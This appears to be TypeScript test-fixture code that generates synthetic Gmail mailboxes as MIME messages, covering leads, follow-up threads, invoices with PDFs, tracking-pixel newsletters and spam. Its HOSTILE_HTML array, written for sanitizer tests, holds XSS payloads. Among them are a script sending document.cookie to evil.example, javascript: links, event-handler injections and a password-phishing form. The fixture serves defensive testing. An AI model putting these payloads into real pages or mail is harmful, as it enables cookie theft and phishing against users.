// Generated mail for a sandbox Gmail user: deterministic from the address (leads, client requests
// with follow-ups in the same thread, invoices with a PDF, newsletters with remote images and a
// tracking pixel, spam with hostile HTML), built as real RFC 5322 / MIME text.
import { randomBytes } from "node:crypto";
import { between, DAY_MS, pick, rng, seedOf } from "../lib.ts";

export type MailSpec = {
  from: string;
  to: string;
  subject: string;
  text: string;
  html?: string;
  date: number;
  messageId?: string;
  inReplyTo?: string;
  references?: string;
  attachments?: { filename: string; contentType: string; data: Buffer }[];
};

const b64lines = (buf: Buffer) => buf.toString("base64").replace(/.{1,76}/g, "$&\r\n");
const encodeWord = (s: string) => (/^[\x20-\x7e]*$/.test(s) ? s : `=?UTF-8?B?${Buffer.from(s, "utf8").toString("base64")}?=`);

/** An RFC 5322 message: multipart/alternative (text + html), inside multipart/mixed with attachments. */
export function buildMime(m: MailSpec, domain = "mail.sandbox.test"): { raw: string; messageId: string } {
  const messageId = m.messageId ?? `<${randomBytes(9).toString("hex")}@${domain}>`;
  const headers = [
    `From: ${m.from}`,
    `To: ${m.to}`,
    `Subject: ${encodeWord(m.subject)}`,
    `Date: ${new Date(m.date).toUTCString().replace("GMT", "+0000")}`,
    `Message-ID: ${messageId}`,
    ...(m.inReplyTo ? [`In-Reply-To: ${m.inReplyTo}`] : []),
    ...(m.references ? [`References: ${m.references}`] : []),
    "MIME-Version: 1.0",
  ];
  const textPart = ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: base64", "", b64lines(Buffer.from(m.text, "utf8"))].join("\r\n");
  let body: string[];
  if (m.html) {
    const alt = `alt_${randomBytes(6).toString("hex")}`;
    const htmlPart = ["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: base64", "", b64lines(Buffer.from(m.html, "utf8"))].join("\r\n");
    body = [`Content-Type: multipart/alternative; boundary="${alt}"`, "", `--${alt}`, textPart, `--${alt}`, htmlPart, `--${alt}--`, ""];
  } else body = [textPart];
  if (m.attachments?.length) {
    const mix = `mix_${randomBytes(6).toString("hex")}`;
    const parts = [`--${mix}`, body.join("\r\n")];
    for (const a of m.attachments) {
      parts.push(`--${mix}`, `Content-Type: ${a.contentType}; name="${a.filename}"`, `Content-Disposition: attachment; filename="${a.filename}"`, "Content-Transfer-Encoding: base64", "", b64lines(a.data));
    }
    parts.push(`--${mix}--`, "");
    body = [`Content-Type: multipart/mixed; boundary="${mix}"`, "", ...parts];
  }
  // The first line of `body` is the top-level Content-Type header.
  return { raw: [...headers, body[0]!, ...body.slice(1)].join("\r\n"), messageId };
}

/** A minimal real PDF (the sniffer sees %PDF-). */
export const pdfBytes = (title: string) =>
  Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n% ${title}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, "latin1");

/** The hostile newsletter/spam bodies the sanitizer must defuse. */
export const HOSTILE_HTML = [
  `<p>You won!</p><script>fetch('https://evil.example/steal?c='+document.cookie)</script><img src="x" onerror="alert(1)">`,
  `<a href="javascript:alert(document.domain)">Claim your prize</a><iframe src="https://evil.example/frame"></iframe>`,
  `<div style="width: expression(alert(1)); background: url(javascript:alert(2))">Act now</div><form action="https://evil.example/phish"><input name="password"></form>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a><svg onload="alert(1)"><use href="#x"/></svg><object data="https://evil.example/x.swf"></object>`,
];

const FIRST = ["Ava", "Liam", "Noah", "Mia", "Ethan", "Zoe", "Lucas", "Chloe", "Omar", "Priya", "Jonas", "Elena"];
const LAST = ["Garcia", "Chen", "Okafor", "Müller", "Rossi", "Smith", "Nakamura", "Dubois", "Silva", "Novak"];
const COMPANIES = ["Brightside Bakery", "Harbor Dental", "Peak Outfitters", "Lumen Labs", "Copper Kettle", "Fjord Outdoor"];

const KINDS = ["lead", "lead", "request", "request", "invoice", "newsletter", "spam"] as const;

export type Generated = MailSpec & { thread: number; labels: string[] };

/**
 * About 36 messages over the last 60 days for `user`, oldest first, with at least one lead, one client
 * request followed up in the same thread and one spam; `thread` groups replies.
 * Deterministic for an address and day (dates are anchored on the current UTC day).
 */
export function generateMailbox(user: string, today = Math.floor(Date.now() / DAY_MS) * DAY_MS): Generated[] {
  const r = rng(seedOf(`gmail:${user}`));
  const out: Generated[] = [];
  const person = () => {
    const f = pick(r, FIRST);
    const l = pick(r, LAST);
    const company = pick(r, COMPANIES);
    const domain = company.toLowerCase().replace(/[^a-z]+/g, "") + ".example";
    return { name: `${f} ${l}`, addr: `${f.toLowerCase()}.${l.toLowerCase().replace(/[^a-z]/g, "")}@${domain}`, company };
  };
  let thread = 0;
  let leadSeen = false;
  let spamSeen = false;
  let followedUp = false;
  for (let i = 0; i < 24; i++) {
    const drawn = pick(r, KINDS);
    // Every mailbox holds a lead, a client request with a follow-up and some spam (about 1 address
    // in 40 drew no spam, 1 in 140 no follow-up, 1 in 3,000 no lead, and the tests of the Junk
    // folder, of triage and of replying in a two-message thread then failed for that address): the
    // last three messages are those when they were not drawn before. Every draw is kept, so each
    // earlier message, and every mailbox that had all three, stays as it was.
    const mustFollowUp = i === 22 && !followedUp;
    const kind: (typeof KINDS)[number] = i === 21 && !leadSeen ? "lead" : mustFollowUp ? "request" : i === 23 && !spamSeen ? "spam" : drawn;
    leadSeen ||= kind === "lead";
    spamSeen ||= kind === "spam";
    const date = today - between(r, 1, 60) * DAY_MS + between(r, 8, 18) * 3_600_000 + between(r, 0, 59) * 60_000;
    const p = person();
    const from = `${p.name} <${p.addr}>`;
    const t = thread++;
    if (kind === "lead") {
      const service = pick(r, ["a new website", "Google Ads management", "social media content", "an SEO audit"]);
      out.push({ thread: t, labels: ["INBOX", "UNREAD", "CATEGORY_PERSONAL"], from, to: user, date, subject: `Quote request: ${service}`,
        text: `Hi,\n\nWe at ${p.company} are looking for ${service}. Could you send us a quote and your availability?\n\nBest,\n${p.name}`,
        html: `<p>Hi,</p><p>We at <b>${p.company}</b> are looking for ${service}. Could you send us a quote and your availability?</p><p>Best,<br>${p.name}</p>` });
    } else if (kind === "request") {
      const ask = pick(r, ["update the opening hours on the homepage", "pause the summer campaign", "change the banner for the sale", "send last month's report"]);
      const first: Generated = { thread: t, labels: ["INBOX", "CATEGORY_PERSONAL"], from, to: user, date, subject: `Could you ${ask}?`,
        text: `Hello,\n\nCould you please ${ask}? Thanks!\n\n${p.name}\n${p.company}`,
        html: `<div><p>Hello,</p><p>Could you please <em>${ask}</em>? Thanks!</p><p>${p.name}<br><small>${p.company}</small></p></div>` };
      out.push(first);
      if (r() < 0.6 || mustFollowUp) {
        followedUp = true;
        // Hours later, but never later than 23:00 yesterday: run just after midnight UTC, "hours later"
        // was in the future, and a reply sent now sorted before the mail it answers.
        const followUp = Math.min(date + between(r, 2, 20) * 3_600_000, today - 3_600_000);
        out.push({ thread: t, labels: ["INBOX", "UNREAD", "CATEGORY_PERSONAL"], from, to: user, date: followUp, subject: `Re: Could you ${ask}?`,
          text: `Just following up on this one. It is a bit urgent.\n\n${p.name}`, html: `<p>Just following up on this one. It is a bit <strong>urgent</strong>.</p><p>${p.name}</p>`,
          inReplyTo: "@thread-first", references: "@thread-first" });
      }
    } else if (kind === "invoice") {
      const no = `INV-${between(r, 1000, 9999)}`;
      out.push({ thread: t, labels: ["INBOX", "CATEGORY_UPDATES"], from: `${p.company} Billing <billing@${p.addr.split("@")[1]}>`, to: user, date, subject: `Invoice ${no}`,
        text: `Please find attached invoice ${no}, due in 14 days.`, html: `<p>Please find attached invoice <b>${no}</b>, due in 14 days.</p>`,
        attachments: [{ filename: `${no}.pdf`, contentType: "application/pdf", data: pdfBytes(no) }] });
    } else if (kind === "newsletter") {
      const id = between(r, 10000, 99999);
      out.push({ thread: t, labels: ["INBOX", "UNREAD", "CATEGORY_PROMOTIONS"], from: `Marketing Weekly <news@marketingweekly.example>`, to: user, date, subject: `Marketing Weekly #${id % 300}: what changed in search`,
        text: `This week: search updates, email benchmarks and more.`,
        html: `<table role="presentation"><tr><td><img src="https://cdn.marketingweekly.example/banner-${id}.png" alt="Marketing Weekly"><h1>This week in marketing</h1><p>Search updates, email benchmarks and more. <a href="https://marketingweekly.example/read/${id}">Read online</a></p></td></tr></table><img src="https://track.marketingweekly.example/open.gif?u=${id}" width="1" height="1" alt="">` });
    } else {
      out.push({ thread: t, labels: ["INBOX", "UNREAD", "CATEGORY_PROMOTIONS"], from: `Prize Center <winner@prizes-${between(r, 10, 99)}.example>`, to: user, date, subject: "You have been selected!!!",
        text: "Claim your prize now.", html: pick(r, HOSTILE_HTML) });
    }
  }
  return out.sort((a, b) => a.date - b.date);
}
